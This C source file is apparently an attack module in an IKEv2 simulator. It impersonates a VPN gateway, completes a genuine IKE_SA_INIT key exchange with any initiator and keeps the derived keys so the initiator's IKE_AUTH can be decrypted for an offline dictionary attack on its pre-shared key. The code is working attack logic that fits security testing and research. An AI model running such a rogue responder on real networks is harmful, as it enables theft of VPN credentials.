/*
 * rogue_responder: a node that answers any IKEv2 initiator as if it were its gateway. Its IKE_SA_INIT answer
 * is real (a D-H key pair of its own, the key schedule of RFC 7296 2.14), so the initiator derives the same
 * keys, and sends IKE_AUTH: the rogue decrypts it and keeps what an offline dictionary attack on a PSK needs
 * (attack_rogue_auth.c). It knows no PSK, so it cannot authenticate itself; it never has to, because the
 * initiator proves its identity first.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/crypto.h>

#include "attack_rogue.h"
#include "crypto/dh.h"
#include "crypto/kdf.h"
#include "crypto/prf.h"
#include "crypto/registry.h"
#include "host/frame.h"

void sim_atk_rogue_free(sim_atk *a)
{
	rogue *rg = a->state;
	if (!rg)
		return;
	for (size_t i = 0; i < ROGUE_MAX; i++)
		rogue_sess_clear(&rg->s[i]);
	free(rg);
	a->state = NULL;
}

void rogue_sess_clear(rogue_sess *s)
{
	free(s->msg1);
	free(s->resp);
	free(s->auth_resp);
	OPENSSL_clear_free(s->keys, s->keys_len);
	memset(s, 0, sizeof(*s));
}

int sim_atk_rogue_setup(sim_atk *a)
{
	if (!(a->state = calloc(1, sizeof(rogue))))
		return -1;
	char f[200];
	const sim_attack_spec *s = a->spec;
	snprintf(f, sizeof(f), "\"kind\":\"rogue_responder\",\"wordlist\":%s%s%s", s->wordlist ? "\"" : "",
		 s->wordlist ? s->wordlist : "null", s->wordlist ? "\"" : "");
	sim_atk_event(a, 0, "attack.start", f);
	return 0;
}

void rogue_send(sim_atk *a, const ike_addr *from, const ike_addr *to, const uint8_t *d, size_t len)
{
	uint8_t buf[4096];
	if (!ike_host_frame_marked(from->port, to->port) || len + IKE_HOST_MARKER_LEN > sizeof(buf)) {
		a->r->be.send(a->r->be.impl, a->spec->node, from, to, d, len);
		return;
	}
	size_t n = ike_host_frame_wrap(true, d, len, buf, sizeof(buf)); /* RFC 3948 2.2: the non-ESP marker on 4500 */
	if (n)
		a->r->be.send(a->r->be.impl, a->spec->node, from, to, buf, n);
}

/* The first proposal whose every type has a transform it can do: its choice, and whether the KE matches. */
static bool choose(const v2_sa *offer, uint16_t ke_group, rogue_algs *out, uint16_t *want_group)
{
	*want_group = 0;
	for (uint8_t i = 0; i < offer->n; i++) {
		const v2_proposal *p = &offer->prop[i];
		rogue_algs c = { .num = p->num };
		const ike_alg *encr = NULL;
		uint16_t first_dh = 0;
		bool ke_ok = false;
		for (uint8_t j = 0; j < p->n; j++) {
			const v2_transform *t = &p->t[j];
			if (t->type == IKE_TT_ENCR && !encr && (encr = ike_alg_find(IKE_TT_ENCR, t->id, t->keylen)))
				c.encr = t->id, c.encr_keylen = t->keylen;
			else if (t->type == IKE_TT_PRF && !c.prf && ike_alg_find(IKE_TT_PRF, t->id, 0))
				c.prf = t->id;
			else if (t->type == IKE_TT_INTEG && !c.integ && ike_alg_find(IKE_TT_INTEG, t->id, 0))
				c.integ = t->id;
			else if (t->type == IKE_TT_DH && ike_dh_supported(t->id)) {
				first_dh = first_dh ? first_dh : t->id;
				ke_ok |= t->id == ke_group;
			}
		}
		if (!encr || !c.prf || !first_dh || (!encr->aead && !c.integ))
			continue;
		if (encr->aead)
			c.integ = 0;
		c.dh = ke_ok ? ke_group : first_dh;
		*out = c;
		if (ke_ok)
			return true;
		if (!*want_group)
			*want_group = first_dh;
	}
	return false;
}

/* By SPI and address, not port: the initiator moves to port 4500 for IKE_AUTH (RFC 7296 2.23). */
static rogue_sess *find(rogue *rg, uint64_t spi_i, const ike_addr *peer)
{
	for (size_t i = 0; i < ROGUE_MAX; i++) {
		const ike_addr *a = &rg->s[i].peer;
		if (rg->s[i].spi_i == spi_i && spi_i && a->family == peer->family && !memcmp(a->ip, peer->ip, sizeof(a->ip)))
			return &rg->s[i];
	}
	return NULL;
}

/* g^ir, SKEYSEED and the seven keys (RFC 7296 2.14); 0 or -1. */
static int derive(sim_atk *a, rogue_sess *s, const v2_ke *ke, const uint8_t *ni, size_t ni_len, uint8_t *pub,
		  size_t *pub_len)
{
	const ike_crypto *c = a->r->crypto;
	const ike_alg *prf = ike_alg_find(IKE_TT_PRF, s->algs.prf, 0);
	const ike_alg *encr = ike_alg_find(IKE_TT_ENCR, s->algs.encr, s->algs.encr_keylen);
	const ike_alg *integ = s->algs.integ ? ike_alg_find(IKE_TT_INTEG, s->algs.integ, 0) : NULL;
	uint8_t gir[1024], seed[IKE_PRF_MAX_OUT];
	ike_dh *dh = NULL;
	int rc = -1;
	s->prf_len = prf->key_bytes, s->encr_len = encr->key_bytes, s->integ_len = integ ? integ->key_bytes : 0;
	s->keys_len = 3 * s->prf_len + 2 * s->encr_len + 2 * s->integ_len;
	*pub_len = ike_dh_public_len(s->algs.dh);
	size_t gl = ike_dh_secret_len(s->algs.dh);
	if (!(s->keys = malloc(s->keys_len)) || gl > sizeof(gir) || ike_dh_generate(c, s->algs.dh, &a->rng, &dh) ||
	    ike_dh_public(dh, pub, *pub_len) || ike_dh_derive(c, dh, ke->data, ke->len, gir, sizeof(gir)) ||
	    ike_v2_skeyseed(c, s->algs.prf, ni, ni_len, s->nr, sizeof(s->nr), gir, gl, seed) ||
	    ike_v2_sa_keys(c, s->algs.prf, seed, ike_prf_out_len(s->algs.prf), ni, ni_len, s->nr, sizeof(s->nr), s->spi_i,
			   s->spi_r, s->keys, s->keys_len))
		goto out;
	rc = 0;
out:
	ike_dh_free(dh);
	OPENSSL_cleanse(gir, sizeof(gir));
	OPENSSL_cleanse(seed, sizeof(seed));
	return rc;
}

static void trace_init(sim_atk *a, int64_t now, const rogue_sess *s, const char *why, const char *chose)
{
	char fa[64], f[512];
	sim_atk_addr(&s->peer, fa, sizeof(fa));
	snprintf(f, sizeof(f), "\"why\":\"%s\",\"from\":\"%s\",\"initiator-spi\":\"%016llx\",\"responder-spi\":\"%016llx\",\"chose\":\"%s\",\"n\":%llu",
		 why, fa, (unsigned long long)s->spi_i, (unsigned long long)s->spi_r, chose, (unsigned long long)a->count);
	sim_atk_event(a, now, "attack.rogue", f);
}

/* The answer: [ SA KE No ] with the proposal it chose, or N(INVALID_KE_PAYLOAD) naming the group it wants. */
static void answer_init(sim_atk *a, int64_t now, rogue_sess *s, const v2_ke *ke, const uint8_t *ni, size_t ni_len,
			const ike_addr *local)
{
	uint8_t pub[1024], buf[2048];
	size_t pub_len = 0;
	ike_drbg_bytes(&a->rng, s->nr, sizeof(s->nr));
	ike_drbg_bytes(&a->rng, &s->spi_r, sizeof(s->spi_r));
	s->spi_r |= 1;
	if (derive(a, s, ke, ni, ni_len, pub, &pub_len)) {
		trace_init(a, now, s, "key exchange failed: no answer", "");
		rogue_sess_clear(s);
		return;
	}
	v2_header h = { .spi_i = s->spi_i, .spi_r = s->spi_r, .major = 2, .exchange = V2_IKE_SA_INIT, .flags = V2_F_RESPONSE };
	v2_sa sa = { .n = 1 };
	v2_proposal *p = &sa.prop[0];
	p->num = s->algs.num, p->protocol = IKE_PROTO_IKE;
	p->t[p->n++] = (v2_transform){ IKE_TT_ENCR, s->algs.encr, s->algs.encr_keylen };
	p->t[p->n++] = (v2_transform){ IKE_TT_PRF, s->algs.prf, 0 };
	if (s->algs.integ)
		p->t[p->n++] = (v2_transform){ IKE_TT_INTEG, s->algs.integ, 0 };
	p->t[p->n++] = (v2_transform){ IKE_TT_DH, s->algs.dh, 0 };
	v2_builder b;
	v2_begin(&b, buf, sizeof(buf), &h);
	v2_add_sa(&b, &sa);
	v2_add_ke(&b, s->algs.dh, pub, pub_len);
	v2_add_nonce(&b, s->nr, sizeof(s->nr));
	size_t len = v2_finish(&b, 0);
	if (!len || !(s->resp = malloc(len))) {
		rogue_sess_clear(s);
		return;
	}
	memcpy(s->resp, buf, len);
	s->resp_len = len;
	s->local = *local;
	a->count++;
	char chose[300];
	sim_atk_format_sa(&sa, chose, sizeof(chose));
	trace_init(a, now, s, "answered IKE_SA_INIT as the gateway", chose);
	rogue_send(a, local, &s->peer, s->resp, s->resp_len);
}

static void refuse_ke(sim_atk *a, int64_t now, const v2_header *in, uint16_t group, const ike_addr *from,
		      const ike_addr *to)
{
	uint8_t buf[64], g[2];
	ike_put_u16(g, group);
	v2_header h = { .spi_i = in->spi_i, .major = 2, .exchange = V2_IKE_SA_INIT, .flags = V2_F_RESPONSE };
	v2_builder b;
	v2_begin(&b, buf, sizeof(buf), &h);
	v2_add_notify(&b, 0, NULL, 0, V2_N_INVALID_KE_PAYLOAD, g, 2);
	size_t len = v2_finish(&b, 0);
	rogue_sess s = { .spi_i = in->spi_i, .peer = *from };
	char want[80];
	snprintf(want, sizeof(want), "%s", ike_transform_name(IKE_TT_DH, group, 0));
	trace_init(a, now, &s, "asked for another D-H group (INVALID_KE_PAYLOAD)", want);
	if (len)
		rogue_send(a, to, from, buf, len);
}

static void on_init(sim_atk *a, int64_t now, const v2_header *h, const uint8_t *d, const ike_addr *from,
		    const ike_addr *to)
{
	rogue *rg = a->state;
	rogue_sess *old = find(rg, h->spi_i, from);
	if (old && old->resp) { /* a retransmission: the same answer again */
		rogue_send(a, &old->local, from, old->resp, old->resp_len);
		return;
	}
	v2_chain c;
	uint8_t bad;
	v2_sa offer;
	v2_ke ke;
	rogue_algs algs;
	uint16_t want = 0;
	if (v2_parse_chain(h->next_payload, d + V2_HDR_LEN, h->length - V2_HDR_LEN, V2_HDR_LEN, &c, &bad) != V2_OK)
		return;
	const v2_payload *psa = v2_chain_find(&c, V2_PL_SA), *pke = v2_chain_find(&c, V2_PL_KE),
			 *pno = v2_chain_find(&c, V2_PL_NONCE);
	if (!psa || !pke || !pno || v2_parse_sa(psa->body, psa->len, &offer) != V2_OK ||
	    v2_parse_ke(pke->body, pke->len, &ke) != V2_OK || v2_parse_nonce(pno->body, pno->len) != V2_OK)
		return;
	if (!choose(&offer, ke.group, &algs, &want)) {
		if (want)
			refuse_ke(a, now, h, want, from, to);
		return;
	}
	rogue_sess *s = &rg->s[rg->next++ % ROGUE_MAX];
	rogue_sess_clear(s);
	s->spi_i = h->spi_i, s->peer = *from, s->algs = algs;
	if (!(s->msg1 = malloc(h->length))) {
		rogue_sess_clear(s);
		return;
	}
	memcpy(s->msg1, d, h->length);
	s->msg1_len = h->length;
	answer_init(a, now, s, &ke, pno->body, pno->len, to);
}

void sim_atk_rogue_input(sim_atk *a, int64_t now, const ike_addr *from, const ike_addr *to, const uint8_t *d, size_t len)
{
	size_t off = 0;
	bool marked = ike_host_frame_marked(to->port, from->port);
	if (ike_host_frame_classify(d, len, marked, &off) != IKE_HOST_DG_IKE)
		return;
	d += off, len -= off;
	v2_header h;
	if (v2_parse_header(d, len, &h) != V2_OK || (h.flags & (V2_F_INITIATOR | V2_F_RESPONSE)) != V2_F_INITIATOR)
		return;
	if (h.exchange == V2_IKE_SA_INIT && h.msg_id == 0 && !h.spi_r)
		on_init(a, now, &h, d, from, to);
	else if (h.exchange == V2_IKE_AUTH && h.msg_id == 1) {
		rogue_sess *s = find(a->state, h.spi_i, from);
		if (s && s->spi_r == h.spi_r && s->keys) {
			s->peer = *from, s->local = *to; /* answered where it came from, floated or not */
			rogue_auth(a, now, s, &h, d);
		}
	}
}
